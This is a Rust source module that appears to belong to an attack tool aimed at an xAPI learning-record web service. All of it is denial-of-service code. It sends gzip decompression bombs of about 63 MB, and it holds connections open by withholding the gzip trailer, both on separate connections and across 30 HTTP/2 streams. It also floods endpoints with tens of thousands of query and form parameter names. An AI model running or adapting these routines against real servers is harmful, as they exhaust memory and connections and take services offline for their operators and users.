//! Bodies and queries that are small on the wire, without a key.

use std::fmt::Write as _;
use std::time::Duration;

use anyhow::{Context as _, Result};
use bytes::Bytes;
use futures::future::join_all;
use tokio::net::TcpStream;

use super::compressed::gzip;
use super::course;
use super::request::Request;
use super::target::{Target, Volley};

const FORM: &str = "application/x-www-form-urlencoded";
/// Just within the limit of a body.
const LARGE: usize = 63 << 20;
/// The trailer of a gzip member and a little more.
const WITHHELD: usize = 10;
const STREAMS: usize = 30;

/// Bodies on connections of their own, to the page on which people check themselves in.
pub(super) async fn held(target: Target) -> Result<Volley> {
    course::load(&target).await?;
    let request = Request::new("POST", course::CHECK_IN).gzip(FORM, &[(b"a", LARGE)])?;
    Ok(target.hold(40, request.unfinished(WITHHELD)))
}

/// Bodies in streams of one connection.
pub(super) async fn held_http2(target: Target) -> Result<Volley> {
    course::load(&target).await?;
    let mut body = gzip(&[(b"a", LARGE)])?;
    body.truncate(body.len() - WITHHELD);
    let body = Bytes::from(body);
    Ok(Box::pin(async move {
        loop {
            // Where HTTP/2 is not spoken, the connection is cut.
            if streams(&target, &body).await.is_err() {
                target.count(None);
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    }))
}

async fn streams(target: &Target, body: &Bytes) -> Result<()> {
    target.begin();
    let stream = TcpStream::connect(target.address).await?;
    let (requests, connection) = h2::client::handshake(stream).await?;
    let driving = tokio::spawn(connection);
    let one = async |mut requests: h2::client::SendRequest<Bytes>| {
        let request = http::Request::post(format!("http://attack{}", course::CHECK_IN))
            .header("content-type", FORM)
            .header("content-encoding", "gzip")
            .body(())?;
        let (answer, mut sending) = requests.send_request(request, false)?;
        sending.send_data(body.clone(), false)?;
        answer.await.context("no answer")
    };
    let all = (0..STREAMS).map(|_| one(requests.clone()));
    let answers = join_all(all).await;
    driving.abort();
    answers.into_iter().next().context("no stream")??;
    Ok(())
}

/// An alternate request whose form is nothing but names.
pub(super) fn form(target: &Target) -> Result<Volley> {
    let request = Request::new("POST", "/xapi/statements?method=GET");
    Ok(target.repeat(2, request.gzip(FORM, &[(b"a&", 31_000_000)])?.bytes()))
}

/// As many names as an address may have, in the query and in the form of an alternate request.
pub(super) fn names(target: &Target) -> Volley {
    const LETTERS: &[u8; 36] = b"abcdefghijklmnopqrstuvwxyz0123456789";
    let letters = || LETTERS.iter().copied().map(char::from);
    let all =
        letters().flat_map(|a| letters().flat_map(move |b| letters().map(move |c| (a, b, c))));
    let mut query = String::new();
    for (a, b, c) in all.take(16_000) {
        let _ = write!(query, "{a}{b}{c}&");
    }
    let in_query = Request::new("GET", &format!("/xapi/about?{query}")).bytes();
    let in_form = Request::new("POST", "/xapi/about?method=GET").body(FORM, query).bytes();
    target.repeat_all(
        4,
        move |number| {
            if number.is_multiple_of(2) { in_query.clone() } else { in_form.clone() }
        },
    )
}
